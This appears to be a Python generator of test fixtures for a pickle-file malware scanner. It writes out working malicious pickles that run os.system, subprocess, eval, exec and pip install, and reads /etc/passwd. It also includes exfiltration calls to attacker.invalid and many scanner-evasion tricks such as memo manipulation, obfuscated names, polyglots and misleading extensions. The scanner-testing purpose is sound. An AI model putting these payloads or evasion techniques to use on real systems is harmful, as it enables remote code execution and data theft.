        ("asyncio_subprocess", "asyncio.subprocess", "create_subprocess_shell", ["id"], "asyncio submodule"),
        ("bdb_run", "bdb", "Bdb.run", ["print(1)"], "debugger"),
        ("pdb_run", "pdb", "run", ["print(1)"], "debugger"),
        ("getattr_builtin", "builtins", "getattr", ["x", "y"], "attribute access"),
        ("functools_partial", "functools", "partial", ["x"], "§2 #17: functools.partial"),
        ("operator_attrgetter", "operator", "attrgetter", ["system"], "indirection"),
        ("operator_methodcaller", "operator", "methodcaller", ["system", "id"], "indirection"),
        ("_operator_attrgetter", "_operator", "attrgetter", ["system"], "§2 #17: GHSA-955r-x9j8-7rhh"),
        ("_operator_itemgetter", "_operator", "itemgetter", ["system"], "§2 #17: GHSA-46h3-79wf-xr6c"),
        ("_operator_methodcaller", "_operator", "methodcaller", ["system", "id"], "§2 #17"),
        ("pip_main", "pip", "main", [["install", "evil"]], "§2 #8: CVE-2025-1716"),
        ("pip_internal_main", "pip._internal", "main", [["install", "evil"]], "§2 #8 (submodule)"),
        ("ensurepip_run_pip", "ensurepip", "_run_pip", [["install", "evil"]], "§2 #17"),
        ("idlelib_pyshell", "idlelib.pyshell", "ModifiedInterpreter.runcode", ["x"], "§2 #17: idlelib"),
        ("idlelib_debugobj", "idlelib.debugobj", "ObjectTreeItem.SetText", ["x"], "§2 #17: idlelib"),
        ("lib2to3_pgen", "lib2to3.pgen2.pgen", "ParserGenerator", ["/etc/passwd"], "§2 #17: lib2to3"),
        ("doctest_debug_script", "doctest", "debug_script", ["import os"], "§2 #17"),
        ("cprofile_run", "cProfile", "run", ["import os"], "§2 #17"),
        ("profile_run", "profile", "run", ["import os"], "§2 #17"),
        ("timeit_timeit", "timeit", "timeit", ["import os"], "§2 #17"),
        ("trace_run", "trace", "Trace.run", ["import os"], "§2 #17"),
        ("code_runcode", "code", "InteractiveInterpreter.runcode", ["x"], "§2 #17"),
        ("pydoc_locate", "pydoc", "locate", ["os.system"], "§2 #17"),
        ("pydoc_pipepager", "pydoc", "pipepager", ["x", "sh"], "§2 #17"),
        ("pkgutil_resolve_name", "pkgutil", "resolve_name", ["os:system"], "§2 #17: GHSA-vvpj-8cmc-gx39"),
        ("io_fileio", "_io", "FileIO", ["/etc/passwd"], "§2 #17: GHSA-9726-w42j-3qjr"),
        ("urllib_urlopen", "urllib.request", "urlopen", ["http://attacker.invalid/"], "§2 #17: GHSA-9726-w42j-3qjr"),
        ("logging_filehandler", "logging", "FileHandler", ["/tmp/x"], "§2 #17: GHSA-m7j5-r2p5-c39r"),
        ("cloudpickle_make_function", "cloudpickle.cloudpickle", "_make_function", ["x"], "§2 #17: cloudpickle helpers"),
        ("uuid_get_command_stdout", "uuid", "_get_command_stdout", ["sh", "-c", "id"], "§2 #17"),
        ("imaplib_imap4_stream", "imaplib", "IMAP4_stream", ["sh -c id"], "§2 #17"),
        ("osx_support_read_output", "_osx_support", "_read_output", ["id"], "§2 #17"),
        ("aix_support_read_cmd", "_aix_support", "_read_cmd_output", ["id"], "§2 #17"),
        ("pyrepl_pager", "_pyrepl.pager", "pipe_pager", ["x", "sh"], "§2 #17: GHSA-g38g-8gr9-h9xp"),
        ("ssl_get_server_certificate", "ssl", "get_server_certificate", [("leak.attacker.invalid", 443)], "§2 #17: DNS exfiltration"),
        ("venv_create", "venv", "create", ["/tmp/v"], "§2 #17"),
        ("ctypes_cdll", "ctypes", "CDLL", ["libc.so.6"], "§2 #17"),
        ("numpy_f2py", "numpy.f2py", "compile", ["x"], "numpy.f2py"),
        ("numpy_testing_runstring", "numpy.testing._private.utils", "runstring", ["import os", {}], "numpy testing helper"),
        ("torch_collect_env_run", "torch.utils.collect_env", "run", ["id"], "§2 #18"),
        ("torch_bottleneck", "torch.utils.bottleneck.__main__", "run_autograd_prof", ["x", {}], "§2 #18"),
        ("torch_inductor_compile_file", "torch._inductor.codecache", "compile_file", ["a", "b", ["sh"]], "§2 #18"),
        ("torch_jit_execwrapper", "torch.jit.unsupported_tensor_ops", "execWrapper", ["import os", {}, {}], "§2 #18"),
        ("torch_serialization_load", "torch.serialization", "load", ["/tmp/evil.pt"], "§2 #18: nested load"),
        ("torch_load", "torch", "load", ["/tmp/evil.pt"], "§2 #23: torch.load"),
        ("torch_hub_load", "torch.hub", "load", ["attacker/repo", "model"], "§2 #18: torch.hub.load"),
        ("torch_storage_load_from_bytes", "torch.storage", "_load_from_bytes", [SYSTEM], "§2 #18"),
        ("torch_config_module", "torch.utils._config_module", "ConfigModule.load_config", [SYSTEM], "§2 #18"),
        ("torch_datapipes_basichandlers", "torch.utils.data.datapipes.utils.decoder", "basichandlers", ["pickle", SYSTEM], "§2 #18"),
        ("torch_dynamo_guards", "torch._dynamo.guards", "GuardBuilder.get", ["__import__('os')"], "§2 #18"),
        ("torch_shapeenv_eval", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ["x", []], "§2 #18"),
        ("multiprocessing_spawnv", "multiprocessing.util", "spawnv_passfds", ["/bin/sh", ["sh"], []], "§2 #19"),
        ("mlflow_run_entry_point", "mlflow.projects.backend.local", "_run_entry_point", ["id", "/", "x", {}, None], "§2 #19"),
        ("pandas_read_csv", "pandas.io.parsers.readers", "read_csv", ["http://attacker.invalid/?q=secret"], "§2 #19: exfiltration"),
        ("pandas_read_pickle", "pandas", "read_pickle", ["/tmp/evil.pkl"], "§2 #23: pandas.read_pickle"),
        ("numpy_load", "numpy", "load", ["/tmp/evil.npy"], "§2 #23: numpy.load with allow_pickle"),
        ("joblib_load", "joblib", "load", ["/tmp/evil.joblib"], "§2 #23: joblib.load"),
        ("dill_loads", "dill", "loads", [SYSTEM], "§2 #23/#27: dill"),
        ("dill_create_code", "dill._dill", "_create_code", [0, 0], "§2 #27: dill-serialised code objects"),
        ("asyncio_unix_events", "asyncio.unix_events", "_UnixSubprocessTransport._start", ["x"], "§2 #14: CVE-2025-10157 submodule + dotted name"),
        ("interpreters_run_string", "_interpreters", "run_string", [1, "import os"], "§2 #21: subinterpreters"),
        ("xxsubinterpreters_run_string", "_xxsubinterpreters", "run_string", [1, "import os"], "§2 #21: subinterpreters (3.11 name)"),
        ("posixpath_os_system", "posixpath", "os.system", ["echo pwned"], "§2 #22: dangerous attribute under an innocuous module (protocol 4 dotted)"),
        ("genericpath_os_system", "genericpath", "os.system", ["echo pwned"], "§2 #22 / fickling: genericpath + os.system"),
        ("code_interact", "code", "interact", [], "interactive interpreter"),
    ]

    def arg(a):
        if isinstance(a, bytes):
            return P.binbytes(a)
        if isinstance(a, str):
            return P.bu(a)
        if isinstance(a, bool) or a is None:
            return {True: P.TRUE, False: P.FALSE, None: P.NONE}[a]
        if isinstance(a, int):
            return P.int_(a)
        if isinstance(a, (list, tuple)):
            inner = b"".join(arg(x) for x in a)
            return (P.EMPTY_LIST + P.MARK + inner + P.APPENDS) if isinstance(a, list) else (P.MARK + inner + P.TUPLE)
        if isinstance(a, dict):
            return P.EMPTY_DICT
        raise TypeError(a)

    for stem, module, name, args, source in gadgets:
        argb = b"".join(arg(a) for a in args)
        if "." in name:  # dotted names resolve through getattr only with protocol >= 4
            body = P.stack_global(module, name) + P.MARK + argb + P.TUPLE + P.REDUCE + P.STOP
            data = P.proto(4) + P.frame(len(body)) + body
        else:
            data = P.proto(2) + P.glob(module, name) + P.MARK + argb + P.TUPLE + P.REDUCE + P.STOP
        c.add(f"mal_call_{stem}.pkl", data, "unsafe", f"{module}.{name}(...) via REDUCE",
              source if source.startswith("§") else f"blocklist: {source}")


def malicious_tricks(c):
    sysglob = ("os", "system")

    # Opcode families that make a call.
    c.add("mal_global_proto0.pkl", call("os", "system", proto=0), "unsafe",
          "protocol 0 text pickle: GLOBAL os system, UNICODE arg, TUPLE, REDUCE", "opcode: GLOBAL (protocol 0)")
    c.add("mal_global_proto1.pkl", call("posix", "system", proto=1), "unsafe",
          "protocol 1: GLOBAL posix system + REDUCE", "opcode: GLOBAL (protocol 1)")
    c.add("mal_global_proto2.pkl", call("os", "system", proto=2), "unsafe",
          "protocol 2: GLOBAL os system + REDUCE", "opcode: GLOBAL (protocol 2)")
    c.add("mal_stack_global_proto4.pkl", call("os", "system", proto=4), "unsafe",
          "protocol 4: SHORT_BINUNICODE names + MEMOIZE + STACK_GLOBAL + REDUCE", "opcode: STACK_GLOBAL + MEMOIZE")
    c.add("mal_stack_global_proto5.pkl", call("subprocess", "getoutput", ["id"], proto=5), "unsafe",
          "protocol 5: STACK_GLOBAL subprocess.getoutput", "opcode: STACK_GLOBAL (protocol 5)")
    body = (P.su("os") + P.binput(3) + P.su("system") + P.binput(4) + P.POP + P.POP
            + P.binget(3) + P.binget(4) + P.STACK_GLOBAL + P.binput(5) + P.su("echo pwned") + P.TUPLE1 + P.REDUCE + P.STOP)
    c.add("mal_stack_global_binput_binget.pkl", P.proto(4) + body, "unsafe",
          "STACK_GLOBAL operands fetched from the memo (BINPUT then BINGET), not adjacent literals", "opcode: BINPUT/BINGET")
    body = (P.su("os") + P.long_binput(70000) + P.su("system") + P.long_binput(70001) + P.POP + P.POP
            + P.long_binget(70000) + P.long_binget(70001) + P.STACK_GLOBAL + P.su("id") + P.TUPLE1 + P.REDUCE + P.STOP)
    c.add("mal_stack_global_long_binget.pkl", P.proto(4) + body, "unsafe",
          "STACK_GLOBAL operands via LONG_BINPUT/LONG_BINGET with large indices", "opcode: LONG_BINGET")
    c.add("mal_inst.pkl", b"(S'echo pwned'\nios\nsystem\n.", "unsafe",
          "INST os system: protocol-0 call without REDUCE", "§2 #4: INST not handled (picklescan 40001cd)")
    c.add("mal_obj.pkl", P.proto(1) + P.MARK + P.glob(*sysglob) + P.bu("echo pwned") + P.OBJ + P.STOP, "unsafe",
          "OBJ: MARK, GLOBAL os system, args, OBJ calls it", "opcode: OBJ")
    c.add("mal_newobj.pkl", P.proto(2) + P.glob("subprocess", "Popen") + P.MARK + P.bu("id") + P.TUPLE + P.NEWOBJ + P.STOP,
          "unsafe", "NEWOBJ of subprocess.Popen (cls.__new__ with args)", "opcode: NEWOBJ")
    c.add("mal_newobj_ex.pkl", P.proto(4) + P.stack_global("subprocess", "Popen") + P.MARK + P.bu("id") + P.TUPLE
          + P.EMPTY_DICT + P.bu("shell") + P.TRUE + P.SETITEM + P.NEWOBJ_EX + P.STOP,
          "unsafe", "NEWOBJ_EX of subprocess.Popen with kwargs", "opcode: NEWOBJ_EX")
    c.add("mal_ext1.pkl", P.proto(2) + P.ext1(0x42) + P.MARK + P.bu("echo pwned") + P.TUPLE + P.REDUCE + P.STOP,
          "unsafe", "EXT1 0x42: callable from the copyreg extension registry (unresolvable statically), then REDUCE",
          "opcode: EXT1 (invisible to picklescan)")
    c.add("mal_ext2.pkl", P.proto(2) + b"\x83" + u16(0x1234) + P.MARK + P.bu("id") + P.TUPLE + P.REDUCE + P.STOP,
          "unsafe", "EXT2: copyreg extension code called", "opcode: EXT2")
    c.add("mal_ext4.pkl", P.proto(2) + b"\x84" + i32(0x123456) + P.MARK + P.bu("id") + P.TUPLE + P.REDUCE + P.STOP,
          "unsafe", "EXT4: copyreg extension code called", "opcode: EXT4")
    # BUILD on an allowlisted object whose state is a dangerous call (call result kept, not dropped).
    c.add("mal_build_state_call.pkl", P.proto(2) + P.glob("collections", "OrderedDict") + P.EMPTY_TUPLE + P.REDUCE
          + P.EMPTY_DICT + P.bu("x") + call_expr("os", "system", P.bu("id")) + P.SETITEM + P.BUILD + P.STOP,
          "unsafe", "os.system result used as BUILD state of an OrderedDict", "opcode: BUILD")

    # Memo tricks (§2 #1, #2, #3, #7).
    body = (P.su("torch._utils") + P.MEMOIZE + P.su("_rebuild_tensor_v2") + P.MEMOIZE  # memo 0, 1
            + P.su("decoy") + P.binput(7)  # memo 7: len(memo) is now 3
            + P.su("os") + P.MEMOIZE  # memo 3 (a MEMOIZE counter would say 2)
            + P.su("system") + P.MEMOIZE  # memo 4 (a counter would say 3)
            + P.POP + P.POP + P.POP + P.POP + P.POP
            + P.binget(3) + P.binget(4) + P.STACK_GLOBAL + P.su("echo pwned") + P.TUPLE1 + P.REDUCE + P.STOP)
    c.add("mal_memo_binput_memoize_mix.pkl", P.proto(4) + body, "unsafe",
          "BINPUT and MEMOIZE mixed: MEMOIZE's index is len(memo), so BINGET 3/4 are os/system, decoy torch names elsewhere",
          "§2 #1: picklescan issue #14")
    body = (P.bu("os") + P.put(17) + P.bu("system") + P.put(4) + P.POP + P.POP
            + P.get(17) + P.get(4) + P.STACK_GLOBAL + P.bu("echo pwned") + P.TUPLE1 + P.REDUCE + P.STOP)
    c.add("mal_memo_put_text.pkl", P.proto(4) + body, "unsafe",
          "protocol-0 PUT/GET with decimal indices feeding STACK_GLOBAL", "§2 #2: picklescan issue #22 (PUT argument ignored)")
    body = (P.glob("numpy", "prod") + P.NONE + P.EMPTY_DICT + P.bu("a") + P.bu("os") + P.SETITEM
            + P.bu("b") + P.bu("system") + P.SETITEM + P.TUPLE2 + P.BUILD + P.POP
            + P.glob("numpy", "prod.a") + P.put(0) + P.POP + P.glob("numpy", "prod.b") + P.put(1) + P.POP
            + P.get(0) + P.get(1) + P.STACK_GLOBAL + P.bu("echo pwned") + P.TUPLE1 + P.REDUCE + P.STOP)
    c.add("mal_build_setattr_function.pkl", P.proto(4) + body, "unsafe",
          "BUILD slot state setattrs 'os'/'system' on numpy.prod; dotted GLOBAL numpy prod.a/.b via PUT/GET feed STACK_GLOBAL",
          "§2 #3: modelscan issue #85")
    c.add("mal_binget_unset_after_payload.pkl", P.proto(2) + P.glob(*sysglob) + P.bu("id") + P.TUPLE1 + P.REDUCE
          + P.POP + P.binget(99) + P.STOP, "unsafe",
          "payload runs, then BINGET of a never-set memo index raises (KeyError in naive scanners)",
          "§2 #7: exception-oriented programming")
    body = (P.stack_global("os", "system") + P.su("id") + P.TUPLE1 + P.REDUCE + P.POP
            + P.int_(5) + P.MEMOIZE + P.binget(3) + P.su("x") + P.STACK_GLOBAL + P.STOP)
    c.add("mal_nonstr_memo_after_payload.pkl", P.proto(4) + body, "unsafe",
          "payload runs, then STACK_GLOBAL on a non-str memo value (TypeError in naive scanners)", "§2 #7")
    c.add("mal_payload_then_junk.pkl", SYSTEM[:-1] + P.STOP + b"\xff\xfe\x00garbage", "unsafe",
          "complete payload pickle followed by junk bytes", "§2 #7 / #24: error after payload")
    c.add("mal_truncated_after_reduce.pkl", P.proto(2) + P.glob(*sysglob) + P.bu("id") + P.TUPLE1 + P.REDUCE
          + P.EMPTY_DICT + P.bu("k"), "unsafe",
          "REDUCE executes, then the stream is cut before STOP", "§2 #24: truncated stream still executes its prefix")

    # Where STACK_GLOBAL's operands come from (§2 #6, #20).
    c.add("mal_stack_global_offset0.pkl", P.su("os") + P.su("system") + P.STACK_GLOBAL + P.su("id") + P.TUPLE1
          + P.REDUCE + P.STOP, "unsafe", "no PROTO: STACK_GLOBAL's module operand is opcode 0",
          "§2 #6: GHSA-9gvj-pp9x-gcfr (range(1, n))")
    body = (P.string0("builtins") + P.binstring("eval") + P.STACK_GLOBAL
            + P.short_binstring("1+1") + P.TUPLE1 + P.REDUCE + P.STOP)
    c.add("mal_stack_global_string_operands.pkl", P.proto(4) + body, "unsafe",
          "STACK_GLOBAL operands given as STRING and BINSTRING (decoded to str), not *UNICODE*", "§2 #6")
    rot = lambda s: P.glob("_codecs", "decode") + P.MARK + P.bu(s) + P.bu("rot13") + P.TUPLE + P.REDUCE
    body = rot("bf") + rot("flfgrz") + P.STACK_GLOBAL + P.bu("echo pwned") + P.TUPLE1 + P.REDUCE + P.STOP
    c.add("mal_stack_global_computed_names.pkl", P.proto(4) + body, "unsafe",
          "STACK_GLOBAL names computed at load time (_codecs.decode('bf','rot13') = 'os'): no dangerous literal",
          "§2 #20: names assembled at runtime")
    join = lambda parts: (P.glob("builtins", "str.join") + P.MARK + P.bu("") + P.EMPTY_LIST + P.MARK
                          + b"".join(P.bu(x) for x in parts) + P.APPENDS + P.TUPLE + P.REDUCE)
    body = (P.stack_global("importlib", "import_module") + join(["o", "s"]) + P.TUPLE1 + P.REDUCE + P.binput(0) + P.POP
            + P.stack_global("builtins", "getattr") + P.binget(0) + join(["sys", "tem"]) + P.TUPLE2 + P.REDUCE
            + P.bu("id") + P.TUPLE1 + P.REDUCE + P.STOP)
    c.add("mal_importlib_getattr_join.pkl", P.proto(4) + body, "unsafe",
          "importlib.import_module(''.join(['o','s'])) + builtins.getattr(…, 'sys'+'tem')", "§2 #20: modelscan #331")
    body = (P.stack_global("numpy", "__builtins__") + P.binput(0) + P.POP
            + P.stack_global("builtins", "dict.get") + P.binget(0) + P.bu("eval") + P.TUPLE2 + P.REDUCE
            + P.bu("1+1") + P.TUPLE1 + P.REDUCE + P.STOP)
    c.add("mal_numpy_builtins.pkl", P.proto(4) + body, "unsafe",
          "STACK_GLOBAL('numpy','__builtins__') then dict.get(…, 'eval') reaches eval", "§2 #20: modelscan #330")
    body = (P.glob("builtins", "getattr") + P.MARK + P.glob("builtins", "__import__") + P.bu("os") + P.TUPLE1 + P.REDUCE
            + P.bu("system") + P.TUPLE + P.REDUCE + P.bu("id") + P.TUPLE1 + P.REDUCE + P.STOP)
    c.add("mal_getattr_chain.pkl", P.proto(2) + body, "unsafe",
          "getattr(__import__('os'), 'system')('id')", "getattr chain")
    body = (P.glob("operator", "attrgetter") + P.bu("system") + P.TUPLE1 + P.REDUCE
            + P.glob("builtins", "__import__") + P.bu("os") + P.TUPLE1 + P.REDUCE + P.TUPLE1 + P.REDUCE
            + P.bu("id") + P.TUPLE1 + P.REDUCE + P.STOP)
    c.add("mal_attrgetter_chain.pkl", P.proto(2) + body, "unsafe",
          "operator.attrgetter('system')(__import__('os'))('id')", "indirection: attrgetter")
    body = (P.glob("functools", "partial") + P.glob(*sysglob) + P.bu("id") + P.TUPLE2 + P.REDUCE
            + P.EMPTY_TUPLE + P.REDUCE + P.STOP)
    c.add("mal_functools_partial_system.pkl", P.proto(2) + body, "unsafe",
          "functools.partial(os.system, 'id')()", "indirection: functools.partial")
    c.add("mal_nested_pickle_binbytes.pkl", P.proto(3) + P.glob("pickle", "loads") + P.binbytes(SYSTEM) + P.TUPLE1
          + P.REDUCE + P.STOP, "unsafe", "pickle.loads(BINBYTES <os.system pickle>)", "§2 #16: GHSA-84r2-jw7c-4r5q")
    inner = call("builtins", "exec", ["import os"])
    c.add("mal_nested_pickle_benign_outer_call.pkl", P.proto(3) + P.glob("_pickle", "loads")
          + P.short_binbytes(inner) + P.TUPLE1 + P.REDUCE + P.STOP, "unsafe",
          "_pickle.loads(SHORT_BINBYTES <exec pickle>)", "§2 #16: modelscan #267")
    body = (P.glob("marshal", "loads") + P.binbytes(b"\xe3" + b"\x00" * 40) + P.TUPLE1 + P.REDUCE + P.binput(0) + P.POP
            + P.glob("types", "FunctionType") + P.binget(0) + P.EMPTY_DICT + P.TUPLE2 + P.REDUCE
            + P.EMPTY_TUPLE + P.REDUCE + P.STOP)
    c.add("mal_marshal_function.pkl", P.proto(2) + body, "unsafe",
          "types.FunctionType(marshal.loads(bytes), {})()", "code objects: marshal + types")
    body = (P.glob("collections", "OrderedDict") + P.EMPTY_TUPLE + P.REDUCE + P.NONE + P.EMPTY_DICT + P.bu("x")
            + call_expr("_interpreters", "run_string", P.int_(1) + P.bu("import os; os.system('id')"))
            + P.SETITEM + P.TUPLE2 + P.BUILD + P.STOP)
    c.add("mal_interpreters_via_build.pkl", P.proto(2) + body, "unsafe",
          "_interpreters.run_string result routed through BUILD slot state (call not dropped)", "§2 #21: fickling GHSA-6ggj-6f2q-f7mx")

    # Position tricks.
    c.add("mal_second_pickle.pkl", pickle.dumps({"a": 1}, protocol=2) + SYSTEM, "unsafe",
          "a benign pickle, then a second pickle (after STOP) that calls os.system", "§2 #24: stopping at the first STOP")
    c.add("mal_third_pickle.pkl", pickle.dumps([1, 2], protocol=4) + pickle.dumps("x", protocol=0) + call("os", "system", proto=4),
          "unsafe", "three pickles back to back, the third malicious", "§2 #24")
    big = pickle.dumps({f"layer.{i}.weight": [float(j) for j in range(20)] for i in range(300)}, protocol=2)
    c.add("mal_after_benign_prefix.pkl", big[:-1] + P.POP + call_expr("os", "system", P.bu("id")) + P.STOP, "unsafe",
          "a large benign dict (≈50 KB of opcodes), then os.system in the same stream before STOP",
          "malicious after a benign-looking prefix")
    text0 = (b"(dp0\nVweights\np1\n(lp2\nF1.5\naF2.25\naI01\naL12345678901234567890L\nasS\"name\"\np3\n"
             b"V\\u00e9t\xe9\xff\np4\ns0cos\nsystem\n(V\\u0065cho pwned\ntR.")
    c.add("mal_proto0_odd_text.pkl", text0, "unsafe",
          "protocol 0 with double-quoted STRING, raw-unicode-escape UNICODE holding bytes ≥ 0x80, I01, L…L, then os.system",
          "§2 #5: odd text-opcode arguments (picklescan 752369a)")
    c.add("mal_proto0_printable.txt", b"cos\nsystem\n(S'echo pwned'\ntR.", "unsafe",
          "printable protocol-0 pickle named .txt (looks like text)", "§2 #24: protocol-0 pickles misclassified as text")
    # Printable tails and first opcodes (the import threshold): pickle.load runs os.system, then
    # fails on what follows; the bytes are a pickle from the GLOBAL on, however text-like the rest.
    tail0 = b"cos\nsystem\n(S'echo pwned'\ntR"
    c.add("mal_proto0_tail_junk.txt", tail0 + b"#junk", "unsafe",
          "protocol-0 payload without STOP followed by a printable tail `#junk`: os.system runs, then the load fails",
          "§2 #24: printable protocol-0 pickle with a tail (aisbom PR #88)")
    c.add("mal_proto0_tail_english.md", tail0 + b"This model is released under the MIT license.\n", "unsafe",
          "protocol-0 payload followed by a line of English text", "§2 #24: printable protocol-0 pickle with a tail")
    c.add("mal_proto0_import_tail.txt", b"cacme_models.hooks\ninstall\n# notes\n", "malformed",
          "a GLOBAL (the unpickler imports acme_models.hooks: module code runs) then a printable tail",
          "§2 #24: import with side effects before the parse error")
    c.add("mal_long1_first_opcode.bin", b"\x8a\x01\x000" + tail0 + b".", "unsafe",
          "no PROTO, first opcode LONG1 then POP, then os.system: a first opcode outside the usual set",
          "§2 #24: sniffing by the first opcode")
    c.add("mal_proto1_long_binstring.bin", b"N0T" + i32(4096) + b"\x00" * 4096 + b"0" + tail0 + b".", "unsafe",
          "protocol 1 (no PROTO): a 4 KiB BINSTRING, then os.system past any fixed sniffing window",
          "§2 #24: sniffing a window of the file")
    c.add("mal_global_cut_at_eof.txt", b"cevil_mod_", "malformed",
          "GLOBAL cut by the end of the file: pickle.py (joblib's unpickler) still imports `evil_mod`",
          "§2 #24: truncated stream still executes its prefix")
    c.add("mal_pickle_hdf5_user_block.h5", SYSTEM + b"\x00" * (512 - len(SYSTEM)) + b"\x89HDF\r\n\x1a\n" + b"\x00" * 100,
          "unsafe", "pickle in the 512-byte user block before an HDF5 signature: h5py reads the HDF5, pickle.load the payload",
          "§2 #9: polyglot (content read two ways)")
    c.add("ok_accelerate_config.yaml", b"compute_environment: LOCAL_MACHINE\ndistributed_type: NO\n", "safe",
          "YAML whose first line starts with `c`: a GLOBAL of no importable module, so text", "text (§2 #24 inverse)")
    # Reads across a FRAME's end (protocol 4+): pickle.loads reads straight through, CPython's C
    # unpickler reading a file without peek (torch.load's io.BytesIO) drops the frame's last bytes
    # and reads from its end, pickle.py refuses. Each layout runs os.system in one reading.
    def framed(frame, after):
        return P.proto(4) + P.frame(len(frame)) + frame + after
    pay = b"cos\nsystem\n(S'id'\ntR"
    c.add("mal_frame_binbytes_length_across.pkl", framed(b"B" + u16(2 + len(pay)), b"\x00" * 4 + pay + P.STOP), "unsafe",
          "BINBYTES length runs across the frame end: straight through, its data hides os.system; the C unpickler "
          "reading a file drops 2 bytes, reads an empty byte string and runs os.system",
          "frame-boundary divergence: fickling test suite layout (CPython _pickle.c _Unpickler_ReadImpl vs pickle.py _Unframer)")
    c.add("mal_frame_global_across.pkl", framed(b"cxx", b"os\nsystem\n(S'id'\ntR."), "unsafe",
          "GLOBAL module line across the frame end: `xxos` straight through, `os` when the frame's last bytes are dropped",
          "frame-boundary divergence")
    c.add("mal_frame_stop_inside.pkl", framed(b"N.XXXX", P.proto(2) + pay + P.STOP), "unsafe",
          "STOP before its frame's end: a second pickle.load starts at the frame's end (pickle.py, C on a file) and runs os.system",
          "frame-boundary divergence")
    c.add("bad_frame_bytes_across.pkl", framed(b"C\x06abc", b"def."), "malformed",
          "SHORT_BINBYTES data runs across the frame end (pickle.py refuses, C reads on)", "frame-boundary divergence")
    c.add("mal_pickle_named.safetensors", SYSTEM, "unsafe", "raw malicious pickle named .safetensors",
          "§2 #9 / #12: misleading extension")
    c.add("mal_pickle_named.bin", SYSTEM, "unsafe", "raw malicious pickle named .bin (PyTorch parser fails, pickle fallback)",
          "§2 #12: CVE-2025-10155")
    c.add("mal_pickle_named.pt", call("os", "system", proto=4), "unsafe", "raw protocol-4 pickle named .pt", "§2 #12")
    c.add("mal_pickle_named.json", SYSTEM, "unsafe", "raw malicious pickle named .json", "§2 #9")
    c.add("mal_pickle_noext", SYSTEM, "unsafe", "raw malicious pickle with no extension", "§2 #9")

    # Recompressed pickles (§2 #25).
    proto0 = call("os", "system", proto=0)
    c.add("mal_gzip_proto0.pkl.gz", gzip.compress(proto0, mtime=0), "unsafe",
          "gzip-compressed protocol-0 payload (joblib and others decompress transparently)", "§2 #25")
    c.add("mal_zlib_joblib.joblib", zlib.compress(SYSTEM, 9), "unsafe",
          "zlib-compressed pickle (joblib compress=True)", "§2 #25")
    c.add("mal_bz2_proto0.pkl.bz2", bz2.compress(proto0, 9), "unsafe",
          "bz2-compressed protocol-0 payload (decompressed and scanned)", "§2 #25")
    c.add("mal_xz_proto0.pkl.xz", lzma.compress(proto0, format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC64), "unsafe",
          "xz-compressed protocol-0 payload (decompressed and scanned)", "§2 #24 / #25")

    # Legacy magic produced by eval (§2 #15).
    magic_eval = P.proto(2) + P.glob("builtins", "eval") + P.bu(hex(LEGACY_MAGIC)) + P.TUPLE1 + P.REDUCE + P.STOP
    c.add("mal_legacy_magic_eval.pt", legacy_torch(torch_state_dict(legacy=True), magic=magic_eval), "unsafe",
          "legacy torch file whose magic number comes from eval('0x1950a86a20f9469cfc6c')", "§2 #15: GHSA-97f8-7cmv-76j2")


def suspicious(c):
    cls = ("acme_models.layers", "Dense")
    c.add("sus_unknown_global_reduce.pkl", call(*cls, ["x"]), "suspicious",
          "REDUCE of a callable on neither list (acme_models.layers.Dense)", "unknown global")
    body = (P.glob(*cls) + P.EMPTY_TUPLE + P.NEWOBJ + P.EMPTY_DICT + P.bu("units") + P.int_(4) + P.SETITEM + P.BUILD + P.STOP)
    c.add("sus_unknown_class_setstate.pkl", P.proto(2) + body, "suspicious",
          "NEWOBJ + BUILD of an unknown class: its __setstate__ runs on load", "BUILD + __setstate__ of an unknown class")
    c.add("sus_unknown_inst.pkl", b"(S'x'\niacme_models.layers\nDense\n.", "suspicious",
          "INST of an unknown class", "opcode: INST")
    c.add("sus_unknown_obj.pkl", P.proto(1) + P.MARK + P.glob(*cls) + P.OBJ + P.STOP, "suspicious",
          "OBJ of an unknown class", "opcode: OBJ")
    c.add("sus_keras_custom_backbone.keras", keras_zip([INPUT, {
              "module": "keras_hub.src.models.gemma.gemma_backbone", "class_name": "GemmaBackbone",
              "config": {"name": "backbone"}, "registered_name": "keras_hub>GemmaBackbone"}]), "suspicious",
          "Keras config naming a class outside Keras's built-ins (a keras_hub backbone): imported on load, needs review",
          "container: keras (unknown class)")
    c.add("sus_unknown_in_state_dict.pt",
          make_zip(torch_zip(torch_state_dict(payload=P.glob(*cls) + P.EMPTY_TUPLE + P.NEWOBJ))), "suspicious",
          "torch zip checkpoint whose state dict also holds an object of an unknown class", "container: pytorch zip")


def benign(c):
    # Plain data in every protocol.
    value = {"name": "bert", "layers": 12, "dropout": 0.1, "tags": ["nlp", "encoder"], "shape": (768, 3072),
             "big": 2**80, "neg": -5, "flag": True, "none": None, "nested": {"a": [1, 2, {"b": "ü"}]}}
    for proto in range(6):
        c.add(f"ok_data_proto{proto}.pkl", pickle.dumps(value, protocol=proto), "safe",
              f"plain data (dict, list, tuple, str, int, float, bool, None, big int) at protocol {proto}", "benign: plain pickle")
    c.add("ok_bytes_set_proto2.pkl", pickle.dumps({"b": b"\x00\x01binary", "s": {1, 2, 3}}, protocol=2), "safe",
          "bytes and set at protocol 2: _codecs.encode and builtins.set (both in torch's weights_only allowlist)",
          "benign: plain pickle")
    c.add("ok_bytearray_proto5.pkl", pickle.dumps({"ba": bytearray(b"abc"), "b": b"xyz", "s": {1}}, protocol=5), "safe",
          "protocol 5: BYTEARRAY8, SHORT_BINBYTES, EMPTY_SET/ADDITEMS", "benign: plain pickle")
    c.add("ok_torch_state_dict.pkl", torch_state_dict(), "safe",
          "torch.save-style state dict: OrderedDict, _rebuild_tensor_v2, FloatStorage persistent ids (BINPERSID), BUILD _metadata",
          "benign: torch pickle")
    c.add("ok_numpy_reconstruct.pkl", numpy_pickle(), "safe",
          "numpy array pickle: numpy.core.multiarray._reconstruct, numpy.ndarray, numpy.dtype + BUILD (protocol 4)",
          "benign: numpy pickle")
    c.add("ok_numpy2_reconstruct.pkl", numpy_pickle("numpy._core.multiarray"), "safe",
          "numpy 2 spelling numpy._core.multiarray._reconstruct", "benign: numpy pickle")
    body = (P.proto(2) + P.EMPTY_DICT + P.binput(0) + P.MARK + P.bu("emb") + numpy_array(proto=2)
            + P.bu("w") + numpy_array(n=2, proto=2) + P.SETITEMS + P.STOP)
    c.add("ok_numpy_dict_proto2.pkl", body, "safe", "dict of two numpy arrays, protocol 2 GLOBALs", "benign: numpy pickle")
    # Memo sharing ("billion laughs" shape) — cheap for an emulator that never expands values.
    body = P.proto(2) + P.EMPTY_LIST + P.binput(0)
